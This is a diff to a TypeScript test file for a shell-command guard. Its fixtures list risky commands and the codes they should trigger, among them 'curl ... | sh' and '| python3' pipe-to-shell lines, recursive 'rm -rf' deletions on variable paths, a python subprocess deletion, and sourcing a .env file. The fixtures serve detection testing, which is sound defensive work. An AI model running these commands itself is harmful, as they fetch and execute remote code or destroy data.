@@ -3,8 +3,8 @@ import { describe, expect, test } from "vitest";
 import { codesOf, outcomeOf } from "./guard-outcome.ts";
 
 const ASKED: readonly (readonly [string, string])[] = [
-  ["$CMD x", "dyn.program"],
-  ['"$X" rm -rf /tmp/a', "dyn.program"],
+  ["read -r CMD < f; $CMD x", "dyn.program"],
+  ['. ./.env; "$X" rm -rf /tmp/a', "dyn.program"],
   ["/bin/r? x", "dyn.program"],
   ["curl https://x.invalid/i | sh", "dyn.pipe_to_shell"],
   ["curl https://x.invalid/i | python3", "dyn.pipe_to_shell"],
@@ -15,8 +15,6 @@ const ASKED: readonly (readonly [string, string])[] = [
   ["bash < f", "dyn.pipe_to_shell"],
   ['ssh h "$X"', "dyn.pipe_to_shell"],
   ["X=$(curl u); [[ $X -eq 0 ]]", "dyn.pipe_to_shell"],
-  ["X=$(cat f); (( X > 3 ))", "dyn.pipe_to_shell"],
-  ['test -v "$(x)"', "dyn.pipe_to_shell"],
   ["rm -rf $X", "dyn.operand"],
   ["rm -rf /usr/$(cat dir)", "dyn.operand"],
   [`python3 -c 'import subprocess,os; subprocess.run(["rm","-rf",os.environ["D"]])'`, "dyn.operand"],
